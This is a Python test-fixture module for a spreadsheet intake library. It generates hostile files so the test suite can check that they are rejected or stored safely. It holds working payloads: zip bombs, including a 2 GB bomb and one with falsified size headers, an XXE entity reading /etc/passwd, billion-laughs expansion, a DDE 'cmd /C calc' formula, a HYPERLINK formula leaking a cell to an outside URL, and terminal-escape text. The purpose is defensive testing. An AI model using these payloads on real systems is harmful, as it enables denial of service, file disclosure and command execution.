"""Hostile input files, made at test time (no binary is committed).

Each maker returns the bytes of one file a careless department or a careful attacker could
send: zip bombs, sheets with too many rows, XXE and "billion laughs", truncated and renamed
files, odd encodings, huge or non-finite numbers, injection text, made-up regions. The suite
(``tests/test_hostile.py``) imports every one and checks what happens; the same files can be
written to a folder to try them by hand or to measure the workbench::

    python -m tests.hostile /tmp/hostile          # writes every file, prints their names
    /usr/bin/time -v planlib import /tmp/hostile/bomb-2gb.xlsx

``HOSTILE`` maps a file name to ``(maker, what the rejection says)``; ``ACCEPTED`` lists the
odd-but-valid files that must import.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

from planlib import intake

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
YEAR = 2024
_TEMPLATE: bytes | None = None


def template_bytes() -> bytes:
    """A blank 2024 template of the 县卫生健康委, made once (from the shipped data)."""
    global _TEMPLATE
    if _TEMPLATE is None:
        import tempfile

        with tempfile.TemporaryDirectory() as tmp:
            path = intake.write_template("县卫生健康委", YEAR, Path(tmp) / "t.xlsx",
                                         db=Path(tmp) / "absent.sqlite")
            _TEMPLATE = path.read_bytes()
    return _TEMPLATE


def _replace_parts(data: bytes, parts: dict[str, bytes | str], streamed: dict[str, Callable] | None = None
                   ) -> bytes:
    """``data`` (a workbook) with some parts replaced; ``streamed`` parts are written chunk by
    chunk (their maker yields bytes), so a huge part never sits in memory."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name in src.namelist() + [n for n in parts if n not in src.namelist()]:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if streamed and name in streamed:
                with out.open(info, "w", force_zip64=True) as stream:
                    for chunk in streamed[name]():
                        stream.write(chunk)
            else:
                out.writestr(info, parts[name] if name in parts else src.read(name))
    return buf.getvalue()


_FIRST_SHEET = "xl/worksheets/sheet1.xml"


def _sheet(rows_xml: str, prolog: str = "") -> str:
    return f'{prolog}<worksheet {_NS}><sheetData>{rows_xml}</sheetData></worksheet>'


def _template_with_sheet(rows_xml: str, prolog: str = "") -> bytes:
    return _replace_parts(template_bytes(), {_FIRST_SHEET: _sheet(rows_xml, prolog)})


# --- workbooks ------------------------------------------------------------------------------------

def bomb(inflated: int = 300 * 2**20) -> bytes:
    """A template whose first sheet inflates to ``inflated`` bytes (a few hundred kB packed)."""
    head = f'<worksheet {_NS}><sheetData>'.encode()
    block = b"<row><c><v>1</v></c></row>" * 40_000

    def chunks():
        yield head
        for _ in range(inflated // len(block)):
            yield block
        yield b"</sheetData></worksheet>"

    return _replace_parts(template_bytes(), {}, {_FIRST_SHEET: chunks})


def bomb_2gb() -> bytes:
    """The reported case: a small file whose sheet inflates to 2 GB (takes seconds to make)."""
    return bomb(2 * 2**30)


def lying_bomb() -> bytes:
    """A bomb whose zip headers declare a tiny inflated size (the reader must stop there)."""
    data = bytearray(bomb(60 * 2**20))
    name = _FIRST_SHEET.encode()
    for sig, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        pos = data.find(sig)
        while pos >= 0:
            name_at = pos + (46 if sig == b"PK\x01\x02" else 30)
            if data[name_at:name_at + len(name)] == name:
                if struct.unpack_from("<I", data, size_at + pos)[0] != 0xFFFFFFFF:
                    struct.pack_into("<I", data, pos + size_at, 1000)
                _patch_zip64(data, pos, name_at + len(name), sig == b"PK\x01\x02")
            pos = data.find(sig, pos + 4)
    return bytes(data)


def _patch_zip64(data: bytearray, pos: int, extra_at: int, central: bool) -> None:
    """Set the inflated size in a zip64 extra field (the first 8 bytes of its data) to 1000."""
    extra_len = struct.unpack_from("<H", data, pos + (30 if central else 28))[0]
    end, at = extra_at + extra_len, extra_at
    while at + 4 <= end:
        tag, size = struct.unpack_from("<HH", data, at)
        if tag == 0x0001 and size >= 8:
            struct.pack_into("<Q", data, at + 4, 1000)
        at += 4 + size


def too_many_rows() -> bytes:
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>W04</t></is></c><c r="G{i}"><v>{i}</v></c></row>'
                   for i in range(1, intake.MAX_ROWS + 2000))
    return _template_with_sheet(rows)


def xxe() -> bytes:
    prolog = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _template_with_sheet('<row r="4"><c r="J4" t="inlineStr"><is><t>&xxe;</t></is></c></row>', prolog)


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst {_NS}><si><t>&lol9;</t></si></sst>'
    return _replace_parts(template_bytes(), {"xl/sharedStrings.xml": text})


def truncated() -> bytes:
    data = template_bytes()
    return data[: len(data) // 2]


def png_renamed() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)


def docx_renamed() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return buf.getvalue()


def bad_shared_string() -> bytes:
    return _template_with_sheet('<row r="4"><c r="A4" t="s"><v>99999</v></c><c r="G4"><v>95</v></c></row>')


def formula_without_value() -> bytes:
    """A department typed formulas (openpyxl saves them without a calculated value)."""
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(template_bytes()))
    ws = wb["县卫生健康委"]
    ws["G4"], ws["J4"] = "=90+5.5", '=HYPERLINK("http://example.org/?leak="&B2,"详情")'
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# --- CSV ------------------------------------------------------------------------------------------

HEADER = "indicator_id,region,year,value,source,note\n"


def _csv(rows: list[str]) -> bytes:
    return (HEADER + "".join(r + "\n" for r in rows)).encode("utf-8")


def million_rows() -> bytes:
    """A million duplicate rows (22 MB)."""
    return HEADER.encode() + "W04,石柱县,2024,20,县卫生健康委,\n".encode() * 1_000_000


def many_rows() -> bytes:
    return HEADER.encode() + "W04,石柱县,2024,20,县卫生健康委,\n".encode() * (intake.MAX_ROWS + 1)


def wide_rows() -> bytes:
    """Under the size limit, but 2000 rows of 4900 cells each."""
    return HEADER.encode() + (b"1," * 4900 + b"\n") * 2000


def made_up_regions(n: int = 15_000) -> bytes:
    return _csv([f"W04,虚构乡{i},2024,20,县卫生健康委," for i in range(n)])


def typo_region() -> bytes:
    return _csv(["W04,石柱县 城关镇,2024,20,县卫生健康委,"])


def huge_numbers() -> bytes:
    return _csv(["C27,石柱县,2024,1e308,县残联,", "W04,石柱县,2024,inf,县卫生健康委,",
                 "W07,石柱县,2024,NaN,县卫生健康委,", "W05,石柱县,2024,1e999,县卫生健康委,",
                 "C27,石柱县,2023,5000000,县残联,"])


def long_note() -> bytes:
    return _csv(["W04,石柱县,2024,95,县卫生健康委," + "很长" * 5000])


def nul_bytes() -> bytes:
    return b"indicator_id,year,value\nW04,2024,9\x005\n"


def injection_csv() -> bytes:
    """Formula and terminal-escape text in notes and sources: valid data, stored as written."""
    notes = ['"=HYPERLINK(""http://example.org/?leak=""&B2,""详情"")"', "=cmd|' /C calc'!A0",
             "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "\x1b[2J\x1b]0;pwned\x07清屏"]
    ids = ["W04", "W05", "W06", "W07", "W08", "W09", "W10"]
    return _csv([f"{i},石柱县,2024,90,县卫生健康委,{n}" for i, n in zip(ids, notes)])


def utf16_without_bom() -> bytes:
    return "indicator_id,region,year,value,source\nW04,石柱县,2024,95.5,县卫生健康委\n".encode("utf-16-le")


def gb18030() -> bytes:
    return "指标代码,地区,年份,数值,来源\nW04,石柱县,2024,95.5,县卫生健康委\n".encode("gb18030")


#: file name -> (maker, a phrase of the English message that rejects it)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb.xlsx": (bomb, "inflates too far"),
    "lying-bomb.xlsx": (lying_bomb, "damaged"),
    "too-many-rows.xlsx": (too_many_rows, f"more than {intake.MAX_ROWS} rows"),
    "xxe.xlsx": (xxe, "document type declaration"),
    "billion-laughs.xlsx": (billion_laughs, "document type declaration"),
    "truncated.xlsx": (truncated, "damaged"),
    "png-renamed.xlsx": (png_renamed, "damaged"),
    "docx-renamed.xlsx": (docx_renamed, "not an Excel workbook"),
    "bad-shared-string.xlsx": (bad_shared_string, "damaged"),
    "formula-without-value.xlsx": (formula_without_value, "formula without a calculated value"),
    "million-rows.csv": (million_rows, "larger than 20 MB"),
    "many-rows.csv": (many_rows, f"more than {intake.MAX_ROWS} rows"),
    "wide-rows.csv": (wide_rows, "more than 400000 cells"),
    "made-up-regions.csv": (made_up_regions, "is not one this store monitors"),
    "typo-region.csv": (typo_region, "Region '石柱县 城关镇' is not one this store monitors"),
    "huge-numbers.csv": (huge_numbers, "above the maximum"),
    "long-note.csv": (long_note, "longer than 500 characters"),
    "nul-bytes.csv": (nul_bytes, "encoding"),
}
#: Odd but valid: these import.
ACCEPTED: dict[str, Callable[[], bytes]] = {
    "injection.csv": injection_csv,
    "utf16-without-bom.csv": utf16_without_bom,
    "gb18030.csv": gb18030,
}


def write_all(folder: Path, big: bool = True) -> list[Path]:
    """Write every hostile and accepted file (and, with ``big``, the 2 GB bomb) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    makers = {name: maker for name, (maker, _) in HOSTILE.items()} | ACCEPTED
    if big:
        makers["bomb-2gb.xlsx"] = bomb_2gb
    paths = []
    for name, maker in makers.items():
        (folder / name).write_bytes(maker())
        paths.append(folder / name)
    return paths


if __name__ == "__main__":  # pragma: no cover
    for p in write_all(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")):
        print(p)
